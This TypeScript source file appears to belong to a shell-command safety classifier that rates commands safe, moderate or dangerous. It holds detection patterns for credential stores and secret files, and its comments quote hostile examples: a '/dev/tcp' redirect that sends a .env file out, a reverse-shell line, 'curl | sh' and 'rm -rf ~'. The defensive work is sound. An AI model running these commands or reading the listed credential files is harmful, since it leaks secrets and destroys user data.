// The classifier: rates one part safe < moderate < dangerous with human-readable reasons. A part is safe only when it
// is a known read-only command touching nothing sensitive; everything else is at least moderate. Operator rules may
// raise a level (never lower it) and carry an authored `ask`.
import { type LinearRegex, linearOrNull } from '../util/linear-regex.js';
import { homedir } from 'node:os';
import type { Rule } from '../config/schema.js';
import { MAX_PARTS } from './limits.js';
import { exactKey, patternFor } from './pattern.js';
import { normalisedForms } from './policy.js';
import { isVersionOrHelp } from './readonly.js';
import { type TableVerdict, readOnlyByTable } from './table/index.js';
import { type CmdView, type Family, type Finding, type RuleFamily, dangerous, fullText, moderate, moderateExact, operands } from './rules-common.js';
import { FILE_RULES, touchesStartupOrSystem, writeTargetFindings } from './rules-files.js';
import { outsidePathFindings } from './outside-paths.js';
import { GIT_RULES } from './rules-git.js';
import { NET_RULES } from './rules-net.js';
import { SYSTEM_RULES } from './rules-system.js';
import { type Dispatch, buildDispatch } from './rules-dispatch.js';
import { LEVELS, type Level, levelRank } from '../core/levels.js';

/** The levels from the highest down. */
const LEVELS_DOWN: readonly Level[] = [...LEVELS].reverse();
import type { Part, PartVerdict } from './types.js';
import { assignmentName, isAssignment, roughSegments } from './words.js';
import { resolveCommand } from './wrappers.js';
import { shortcuts } from './shortcuts.js';

export interface ClassifyOptions {
  readonly rules: readonly Rule[];
  /** The directory the command runs in (the project, for "outside the project" checks). */
  readonly cwd: string;
  readonly home?: string;
  /** The project (launch directory): read-only parts read unasked only in it and in system locations (ADR 0063). */
  readonly project?: string;
  /** The whole line, so an operator rule written against it (`curl.*\| *sh`) also applies to its parts. */
  readonly line?: string;
  /** Runs allowed unasked are contained (the sandbox is on). Absent: not known, so not contained (ADR 0093). */
  readonly contained?: boolean;
}

/** Every rule family, in the order their findings are listed. */
export const RULE_FAMILIES: readonly Family[] = [...FILE_RULES, ...GIT_RULES, ...NET_RULES, ...SYSTEM_RULES];

/** The rule families by program (ADR 0066), built on first use: `wisp check -- ls` needs few of them. */
let dispatch: Dispatch | undefined;

/** The families the classifier runs for a command. */
export function familiesFor(c: CmdView): readonly RuleFamily[] {
  return (dispatch ??= buildDispatch(RULE_FAMILIES)).familiesFor(c);
}

/** Credential stores and keys: touching them at all is dangerous. */
export const CREDENTIALS =
  /\.ssh(\/|\b)|(^|[/\s'"=@])id_(rsa|dsa|ecdsa|ed25519)\b|\.aws\/(credentials|config)|\.netrc\b|\.gnupg\b|keychains?\b|\.keychain(-db)?\b|\.git-credentials|\.npmrc\b|\.pypirc\b|\.kube\/config|\.docker\/config\.json|\.config\/(?:gh|hub|gcloud|rclone)(?:\/|\b)|\.s3cfg\b|\.azure\/|\.pgpass\b|\.vault-token|\/etc\/(shadow|gshadow|sudoers|master\.passwd)|\.password-store|\.gem\/credentials|\.cargo\/credentials|\.terraformrc|\.boto\b/i;

/**
 * The line with each run of slashes and `./` segments written as one slash: `/etc//shadow`, `/etc/./shadow` and
 * `~/.config//gh/hosts.yml` name the same files as their plain spellings, and the two lists above must see them.
 */
const SLASH_RUN = /\/+(?:\.\/+)*/g;
const tidyPaths = (text: string): string => text.replace(SLASH_RUN, '/');

/** What a secret expression offers: a test, and the expressions it is made of (the anchor test reads their sources). */
export interface TextTest {
  test(text: string): boolean;
  readonly parts: readonly RegExp[];
}

/** File names and paths that may hold secrets (each alternative holds a `.` or a `/`). */
const SENSITIVE_NAMES =
  /(?:^|[/\s'"=@:])\.env|\.(?:pem|key|p12|pfx|ppk|p8|jks|kdbx|tfstate|tfvars|dockercfg|db|sqlite3?)\b|\.netrc|\.npmrc|\.pypirc|wp-config\.php|\/environ\b/i;
/** Words in names and values that may hold secrets. */
const SENSITIVE_WORDS = /secret|token|passw|credential|private|id_(?:rsa|dsa|ecdsa|ed25519)|_history\b|keychain|api[_-]?key|cookies/i;

/**
 * Names and values that may hold secrets: a read-only command touching them is no longer safe. Two expressions, not
 * one: with its words and its dotted names apart, the pair tests a text in a third to a half of the time the single
 * alternation took (it was tried on every command since ADR 0096).
 */
export const SENSITIVE: TextTest = {
  test: (text) => SENSITIVE_NAMES.test(text) || SENSITIVE_WORDS.test(text),
  parts: [SENSITIVE_NAMES, SENSITIVE_WORDS],
};

/**
 * Every alternative of CREDENTIALS and SENSITIVE holds a `.`, a `/` or one of these words in some case (a test
 * checks it), so a text with none of them matches neither and skips both: compiling those two expressions was most of
 * what rating `ls` cost a fresh `wisp check` (ADR 0066).
 */
// One scan instead of lower-casing the text and searching it ten times (ADR 0074). It ignores case the way the two
// expressions do (the same `i` flag), so whatever they can match, it matches.
// The `.` and `/` are looked for first, by a plain search (ADR 0083): most texts hold one, and the words' expression
// alone scans a text faster than with the class among its alternatives. The two together match what the one did.
const SECRET_ANCHOR_WORDS = /id_|keychain|secret|token|passw|credential|private|_history|api|cookies/i;
const ANCHOR_WORDS = ['id_', 'keychain', 'secret', 'token', 'passw', 'credential', 'private', '_history', 'api', 'cookies'];
export function mayNameSecrets(text: string): boolean {
  if (shortcuts.on) return text.includes('.') || text.includes('/') || SECRET_ANCHOR_WORDS.test(text);
  if (text.includes('.') || text.includes('/')) return true;
  const lower = text.toLowerCase();
  return ANCHOR_WORDS.some((a) => lower.includes(a));
}

/** Environment names that change which program runs or what it loads. */
const RISKY_ENV_NAMES = new Set([
  'PATH', 'BASH_ENV', 'ENV', 'IFS', 'PS4', 'PROMPT_COMMAND', 'SHELLOPTS', 'BASHOPTS', '_JAVA_OPTIONS', 'NODE_PATH', 'PYTHONPATH',
  'PYTHONSTARTUP', 'PYTHONHOME', 'PERLOPT', 'PERL5OPT', 'PERLLIB', 'PERL5LIB', 'RUBYOPT', 'RUBYLIB', 'CDPATH', 'EDITOR', 'VISUAL',
  'PAGER', 'MANPAGER', 'LESSOPEN', 'LESSCLOSE', 'HOME', 'TMPDIR', 'ZDOTDIR', 'XDG_CONFIG_HOME', 'BROWSER',
  // Build tools run these, or read options that run programs from them (`MAKEFLAGS=--eval=…`, `GOFLAGS=-toolexec=…`,
  // `RUSTC_WRAPPER=…`): an answer for `make build` must not cover them (ADR 0093).
  'MAKEFLAGS', 'MFLAGS', 'GNUMAKEFLAGS', 'MAKEFILES', 'MAKESHELL', 'CC', 'CXX', 'CPP', 'LD', 'AR', 'RUSTC', 'RUSTC_WRAPPER',
  'RUSTC_WORKSPACE_WRAPPER', 'RUSTDOC', 'GOFLAGS', 'GOTOOLCHAIN', 'DOTNET_STARTUP_HOOKS', 'PERL5DB',
]);
const RISKY_ENV_PREFIX = /^(?:LD_|DYLD_|GIT_|npm_config_|NPM_CONFIG_|CARGO_|PIP_|UV_|YARN_|BUNDLE_|POETRY_)\w+$/;
const RISKY_ENV_SUFFIX = /^\w*(?:\w_OPTIONS|\w_OPTS|ASKPASS)$/;
const RISKY_ENV = { test: (name: string): boolean => RISKY_ENV_NAMES.has(name) || RISKY_ENV_PREFIX.test(name) || RISKY_ENV_SUFFIX.test(name) };


const HARMLESS_TARGET = /^(\/dev\/(null|stdout|stderr|tty|fd\/\d+)|&?\d+|&?-)$/;
const DISK_TARGET = /^\/dev\/(sd[a-z]|nvme\d|r?disk\d|hd[a-z]|vd[a-z]|xvd[a-z]|mmcblk\d)/;
export const WISP_STATE = /(^|[\s'"=/])\.wisp(\/|\b)|\$\{?WISP_HOME\b/;
/** WISP_STATE's alternatives need `.wisp` or `WISP_HOME` as written (it ignores no case): a text with neither skips it. */
const mayTouchWispState = (text: string): boolean => !shortcuts.on || text.includes('.wisp') || text.includes('WISP_HOME');

/** Operator rule patterns run on the linear-time engine (ADR 0017); null when unusable (cached there). */
function ruleRegex(source: string): LinearRegex | null {
  return linearOrNull(source);
}

function makeView(part: Part, words: readonly string[], text: string, opts: ClassifyOptions, home: string): CmdView {
  const r = resolveCommand(words);
  return { part, text, words, r, exe: r.executable, args: r.args, cwd: opts.cwd, project: opts.project ?? opts.cwd, home };
}

interface RedirectInfo {
  readonly op: string;
  readonly target: string;
  /** The target as written (`$'out.txt'`, which the rough reading gives as `$out.txt`). */
  readonly raw: string;
}

/** The first word of the first segment that has one (what `.flat()[0]` gives, without the flat copy). */
function firstWord(segments: readonly (readonly string[])[]): string | undefined {
  for (const words of segments) if (words.length > 0) return words[0];
  return undefined;
}

function readRedirect(text: string): RedirectInfo | undefined {
  const m = /^\s*(?:(?:\d+|\{\w+\})\s*)?(&>>|&>|>>|>\||>&|>|<<<|<<-|<<|<>|<&|<)\s*([\s\S]*)$/.exec(text);
  if (!m) return undefined;
  const target = firstWord(roughSegments(m[2]!)) ?? m[2]!.trim();
  return { op: m[1]!, target, raw: m[2]!.trim() };
}

/**
 * bash opens `/dev/tcp/HOST/PORT` and `/dev/udp/HOST/PORT` named in a redirection as a network connection, whatever
 * the direction: `cat .env > /dev/tcp/host/80` sends a secret away, `bash -i >& /dev/tcp/…` hands a shell over. Such a
 * redirection — or one to a `/dev/` path only known at run time — is dangerous, so no answer becomes a standing
 * approval for it; the reason names the place.
 */
function networkDeviceFinding(target: string): Finding | undefined {
  const m = /^\/dev\/(tcp|udp)\/([^/\s]*)\/?(\S*)/.exec(target);
  if (m) return dangerous(`opens a network connection to ${m[2]}${m[3] ? ':' + m[3] : ''} (/dev/${m[1]})`);
  if (target.startsWith('/dev/') && /[$`]/.test(target)) return dangerous('redirects to a device path known only at run time');
  return undefined;
}

function redirectFindings(c: CmdView, out: Finding[]): void {
  for (const text of c.part.redirects) {
    const r = readRedirect(text);
    if (!r) continue;
    const net = networkDeviceFinding(r.target);
    if (net !== undefined) out.push(net);
    const writes = ['>', '>>', '>|', '&>', '&>>', '<>'].includes(r.op) || (r.op === '>&' && !/^(\d+|-)$/.test(r.target));
    if (!writes || HARMLESS_TARGET.test(r.target)) continue;
    if (DISK_TARGET.test(r.target)) out.push(dangerous('destroys a disk or volume'));
    else if (touchesStartupOrSystem(r.target, c)) out.push(dangerous('changes shell start-up, login or system files'));
    out.push(moderate('writes to a file'));
    writeTargetFindings(/^\$'[^'\\]*'$/.test(r.raw) ? r.raw : r.target, c, out);
  }
}

/** Assignment words (`A=1`, also after `export`/`local`…): unsafe names, or values that hide a command. */
function assignmentFindings(words: readonly string[], out: Finding[]): void {
  for (const w of words) {
    if (!isAssignment(w)) continue;
    const name = assignmentName(w);
    if (RISKY_ENV.test(name)) out.push(moderateExact(`sets ${name}, which changes how programs are found or run`));
    if (/\$\(|`/.test(w)) out.push(moderate('stores the output of a command in a variable'));
  }
}

const DECLARATIONS = new Set(['export', 'local', 'declare', 'typeset', 'readonly']);

/** Names a builtin assigns without `NAME=` syntax: `read PATH`, `printf -v PATH …`, `mapfile X`, `export PATH`. */
function assignedNames(c: CmdView): string[] {
  const a = c.args;
  switch (c.exe) {
    case 'read':
    case 'mapfile':
    case 'readarray':
      return operands(a);
    case 'printf':
      return a.flatMap((w, i) => (w === '-v' ? [a[i + 1] ?? ''] : /^-v./.test(w) ? [w.slice(2)] : []));
    default:
      return DECLARATIONS.has(c.exe) ? operands(a).map((w) => w.split('=')[0]!) : [];
  }
}

function builtinAssignmentFindings(c: CmdView, out: Finding[]): void {
  for (const w of assignedNames(c)) {
    const name = assignmentName(w);
    if (RISKY_ENV.test(name)) out.push(moderateExact(`sets ${name}, which changes how programs are found or run`));
  }
}

/**
 * `${a[i]}` with a non-numeric subscript, `${x:offset}` (not `:-`, `:=`, `:+`, `:?`), the old `$[…]`, indirection
 * `${!x}` and prompt expansion `${x@P}`: each evaluates a variable's value, and a `$(…)` hidden in it runs.
 */
// Written without lookaround and with disjoint runs, so it cannot backtrack (ADR 0038); `${a[x` needs no `]` (fail closed).
const VALUE_AS_CODE =
  /\$\{#?[A-Za-z_][A-Za-z0-9_]*(?:\[[^\]A-Za-z_$`]*[A-Za-z_$`]|:(?:[^-=+?}A-Za-z_$`][^}A-Za-z_$`]*)?[A-Za-z_$`])|\$\{![A-Za-z_]|\$\{[^}$]*@P\}|\$\[/;
const VALUE_AS_CODE_REASON = "evaluates a variable's value as code (arithmetic, a computed name), which runs any command hidden in it";
/** An arithmetic expansion naming a variable (`$((x))`), whose value bash evaluates as arithmetic too. */
const ARITHMETIC_NAMES = /\$\(\([^)A-Za-z_$`]*[A-Za-z_$`]/;
const ARITHMETIC_TEST = /^-(eq|ne|lt|le|gt|ge)$/;
const NAMES_A_VARIABLE = /[A-Za-z_$`]/;

/** The words a builtin takes as variable names (to assign, test or remove). */
function nameWords(c: CmdView): string[] {
  const a = c.args;
  switch (c.exe) {
    case 'read':
    case 'unset':
    case 'wait':
      return a.filter((w) => !w.startsWith('-'));
    case 'printf':
      return a.flatMap((w, i) => (w === '-v' ? [a[i + 1] ?? ''] : /^-v./.test(w) ? [w.slice(2)] : []));
    case 'test':
    case '[':
    case '[[':
      return a.flatMap((w, i) => (w === '-v' ? [a[i + 1] ?? ''] : []));
    default:
      return DECLARATIONS.has(c.exe) ? a.filter((w) => !w.startsWith('-')).map((w) => w.split('=')[0]!) : [];
  }
}

/**
 * A variable's value evaluated as code: bash evaluates `a[$(cmd)]` found in a value used as arithmetic or as a
 * variable name, so `read x < f; (( x ))` or `read x < f; [ -v "$x" ]` runs whatever the file holds. A read-only
 * command that does so on anything but literals is not safe.
 */
function valueAsCode(c: CmdView): boolean {
  const a = c.args;
  let evaluates = false;
  if (c.exe === '((' || c.exe === 'let') evaluates = a.some((w) => w !== '))' && NAMES_A_VARIABLE.test(w));
  else if (c.exe === '[[') {
    evaluates = a.some((w, i) => ARITHMETIC_TEST.test(w) && [a[i - 1], a[i + 1]].some((o) => o !== undefined && NAMES_A_VARIABLE.test(o)));
  }
  if (DECLARATIONS.has(c.exe) && a.some((w) => /^-[A-Za-z]*i/.test(w))) evaluates = true; // declare -i: arithmetic
  if (nameWords(c).some((w) => /[[$`]/.test(w))) evaluates = true; // a computed or subscripted name
  if (VALUE_AS_CODE.test(c.text)) evaluates = true;
  return evaluates;
}

/** What the secret and wisp-state expressions are tested on: the text a rule may look at (`fullText`). */
interface RatedText {
  /** Whether `re` (CREDENTIALS or SENSITIVE) matches the text or its path-tidied form. */
  names(re: RegExp | TextTest): boolean;
  touchesWispState(): boolean;
}

/** The full way: `fullText` as one string. */
class Whole implements RatedText {
  private readonly text: string;
  private readonly tidy: string;
  private readonly secrets: boolean;
  constructor(c: CmdView) {
    this.text = fullText(c);
    this.tidy = tidyPaths(this.text);
    this.secrets = mayNameSecrets(this.text);
  }
  names(re: RegExp | TextTest): boolean {
    return this.secrets && (re.test(this.text) || (this.tidy !== this.text && re.test(this.tidy)));
  }
  touchesWispState(): boolean {
    return WISP_STATE.test(this.text);
  }
}

/**
 * `fullText`'s pieces (the part's text, its words joined when that differs, each redirection) one by one, each
 * once: for a plain part the words joined are its text, and `fullText` holds it twice (ADR 0083). An expression
 * matches `a + '\n' + b` exactly when it matches `a` or `b`: every alternative of the three is literal characters
 * but a leading `(^|[…\s…])`, which at a joint takes the `\n` where the piece alone takes `^`, and a `\b`, which
 * sees `\n` as it sees a text's end (test/gate/classify-pieces.test.ts checks this on the expressions).
 */
class Pieces implements RatedText {
  private readonly c: CmdView;
  /** The words joined, when that is not the part's text. */
  private readonly joined: string | undefined;
  constructor(c: CmdView) {
    this.c = c;
    this.joined = joinsTo(c.words, c.text) ? undefined : c.words.join(' ');
  }
  names(re: RegExp | TextTest): boolean {
    if (namedIn(re, this.c.text) || (this.joined !== undefined && namedIn(re, this.joined))) return true;
    for (const r of this.c.part.redirects) if (namedIn(re, r)) return true;
    return false;
  }
  touchesWispState(): boolean {
    if (wispIn(this.c.text) || (this.joined !== undefined && wispIn(this.joined))) return true;
    for (const r of this.c.part.redirects) if (wispIn(r)) return true;
    return false;
  }
}

/** Whether `words.join(' ')` is `text`, without building it (a plain part's words are its text). */
export function joinsTo(words: readonly string[], text: string): boolean {
  let at = 0;
  for (let i = 0; i < words.length; i++) {
    const w = words[i]!;
    if (i > 0) {
      if (text.charCodeAt(at) !== 32) return false;
      at++;
    }
    if (!text.startsWith(w, at)) return false;
    at += w.length;
  }
  return at === text.length;
}

/** `re` on one piece: skipped without an anchor; the tidied piece tried only when tidying changes it (`//`, `/./`). */
function namedIn(re: RegExp | TextTest, text: string): boolean {
  if (!mayNameSecrets(text)) return false;
  return re.test(text) || ((text.includes('//') || text.includes('/./')) && re.test(tidyPaths(text)));
}

const wispIn = (text: string): boolean => mayTouchWispState(text) && WISP_STATE.test(text);

/**
 * Rates one command view: adds its findings to `findings` and returns whether the read-only table calls it safe
 * (`table`: given for the part as a whole; rough segments of an unparsed part never are).
 */
function rate(c: CmdView, table: TableVerdict, findings: Finding[]): boolean {
  const from = findings.length;
  // `<tool> --version` only prints; the tool's own families (interpreter, build…) do not apply.
  const versionOnly = isVersionOrHelp(c);
  if (!versionOnly) {
    // Indexed loops: the families' results are arrays, and iterating them by protocol was a third of this function.
    const families = familiesFor(c);
    for (let i = 0; i < families.length; i++) {
      const found = families[i]!(c);
      for (let k = 0; k < found.length; k++) findings.push(found[k]!);
    }
  }
  const texts = shortcuts.on ? new Pieces(c) : new Whole(c);
  if (texts.names(CREDENTIALS)) findings.push(dangerous('touches credentials'));
  redirectFindings(c, findings);

  // Safe only by construction: the read-only table decides; nothing below can lower a level.
  const readOnly = table.safe;
  if (c.exe === '' && c.words.length > 0 && c.words.every(isAssignment)) {
    assignmentFindings(c.words, findings);
  } else if (DECLARATIONS.has(c.exe) && c.args.some(isAssignment)) {
    assignmentFindings(c.args, findings);
  }
  if (c.exe !== '') assignmentFindings(c.r.assignments, findings);

  builtinAssignmentFindings(c, findings);
  if (!readOnly && texts.touchesWispState()) findings.push(dangerous("touches wisp's own state (approvals, config, pending answers)"));
  if (readOnly && !c.part.unparsed) {
    if (/\$\(|`/.test(c.text)) findings.push(moderate('its arguments come from another command'));
    if (valueAsCode(c)) findings.push(moderate(VALUE_AS_CODE_REASON));
    if (/[<>]\(/.test(c.text)) findings.push(moderate('reads or writes through a process substitution'));
  }
  // Any command, not only a read: an answer for `cp a.txt b.txt` covered `cp .env public/env.txt`, after which the
  // secret read unasked under an ordinary name (ADR 0096). A part at least moderate already only gains the reason.
  if (!c.part.unparsed && texts.names(SENSITIVE)) findings.push(moderate('mentions a file or value that may hold secrets'));
  // The table's reason explains a part nothing else flagged (an unknown program or option, an expansion …).
  if (!table.safe && !flagged(findings, from)) findings.push(moderate(table.reason));
  // Each place outside the project an asked command names is shown, and keeps answers apart (ADR 0099).
  if (!readOnly && !c.part.unparsed) outsidePathFindings(c, findings);
  // Any command evaluates such a value, not only a read-only one: without this reason a remembered answer for
  // `mkdir -p build` covered `read x < notes.txt; mkdir ${a[x]}`, which runs whatever notes.txt holds (ADR 0090).
  if (!readOnly && !c.part.unparsed && (valueAsCode(c) || ARITHMETIC_NAMES.test(c.text))) findings.push(moderate(VALUE_AS_CODE_REASON));
  return readOnly;
}

/** Whether a finding from index `from` on raises the level. */
function flagged(findings: readonly Finding[], from: number): boolean {
  for (let i = from; i < findings.length; i++) if (findings[i]!.level !== 'safe') return true;
  return false;
}

/** The reasons, the highest level's first (in the order found, as a stable sort gives them), each once. */
function ordered(findings: readonly Finding[]): string[] {
  if (findings.length === 1) return [findings[0]!.reason];
  const seen = new Set<string>();
  const out: string[] = [];
  for (const level of LEVELS_DOWN) {
    for (const f of findings) {
      if (f.level !== level || seen.has(f.reason)) continue;
      seen.add(f.reason);
      out.push(f.reason);
    }
  }
  return out;
}

/** Rates one part of a line. Pure: depends only on the part, the operator rules, cwd and home. */
export function classifyPart(part: Part, opts: ClassifyOptions): PartVerdict {
  const home = opts.home ?? homedir();
  const findings: Finding[] = [];
  let readOnly = false;
  let executable: string;

  if (part.unparsed) {
    findings.push(moderate('could not be parsed; treated with caution'));
    const segments = roughSegments(part.text);
    const notTable: TableVerdict = { safe: false, reason: 'could not be parsed; treated with caution' };
    // Rating is per command: past MAX_PARTS (a line of thousands of commands) the rest is not rated one by one, and
    // the part is dangerous, so no standing approval can ever cover it (issue 12.4, fail closed).
    for (const words of segments.slice(0, MAX_PARTS)) rate(makeView(part, words, words.join(' '), opts, home), notTable, findings);
    // Unparsed, its redirections are not told apart from its words: any word naming /dev/tcp|udp counts as one.
    for (const words of segments.slice(0, MAX_PARTS)) {
      for (const w of words) {
        const at = w.indexOf('/dev/');
        const net = at < 0 ? undefined : networkDeviceFinding(w.slice(at));
        if (net !== undefined) findings.push(net);
      }
    }
    if (segments.length > MAX_PARTS) findings.push(dangerous(`holds more than ${MAX_PARTS} commands, too many to rate one by one`));
    executable = segments[0] ? resolveCommand(segments[0]).executable : '';
  } else if (part.keyword === 'function') {
    findings.push(moderate('defines a shell function'));
    executable = `${part.words[0] ?? ''}()`;
  } else {
    const view = makeView(part, part.words, part.text, opts, home);
    const env = { cwd: opts.cwd, home, contained: opts.contained === true, ...(opts.project !== undefined ? { project: opts.project } : {}) };
    readOnly = rate(view, readOnlyByTable(part, env), findings);
    executable = view.exe;
    // What runs later is asked about by a short name (`npm run x`): the stored text is rated now, keyed exactly (ADR 0100).
    if (part.origin === 'stored') findings.push({ level: 'moderate', reason: 'is code the line stores to run later', exact: true });
    if (part.dynamicName) {
      findings.push(moderate('the program name is computed at run time'));
      readOnly = false;
      executable = view.r.programWord ?? '';
    }
  }

  let level: Level = 'safe';
  for (const f of findings) if (levelRank(f.level) > levelRank(level)) level = f.level;
  let reasons: string[];
  if (findings.length > 0) {
    reasons = ordered(findings);
  } else if (readOnly) {
    reasons = ['a known read-only command'];
  } else {
    level = 'moderate';
    reasons = ['not a known read-only command'];
  }
  const knownSafeByList = readOnly && findings.length === 0;

  // Operator rules: raise, never lower; the first matching rule with an `ask` supplies the headline.
  let ask: string | undefined;
  if (opts.rules.length > 0) {
    const texts = [part.text, ...normalisedForms(part), ...(opts.line !== undefined ? [opts.line] : [])];
    for (const rule of opts.rules) {
      const re = ruleRegex(rule.match);
      if (re === null || !texts.some((t) => re.test(t))) continue;
      if (rule.level !== undefined && levelRank(rule.level) > levelRank(level)) {
        level = rule.level;
        reasons = [`raised by operator rule ${rule.match}`, ...reasons.filter((r) => r !== 'a known read-only command')];
      }
      if (ask === undefined && rule.ask !== undefined) ask = rule.ask;
    }
  }

  const pipelineScoped = findings.some((f) => f.level === 'dangerous' && f.scope === 'pipeline') && part.pipeline !== undefined;
  // A value the words give that runs a program (`EDITOR=CMD`, `git -c core.pager=CMD`): keyed by the exact text, so an
  // answer for `EDITOR=vim git commit` never covers `EDITOR='rm -rf ~' git commit` (ADR 0099).
  const exactValue = findings.some((f) => f.exact === true);
  const pattern =
    level === 'dangerous' ? (pipelineScoped ? part.pipeline! : exactKey(part, executable)) : exactValue ? exactKey(part, executable) : patternFor(part, executable);
  const verdict: PartVerdict = { text: part.text, executable, level, reasons, pattern, knownSafe: knownSafeByList && level === 'safe' };
  if (ask !== undefined) return { ...verdict, ask };
  return verdict;
}
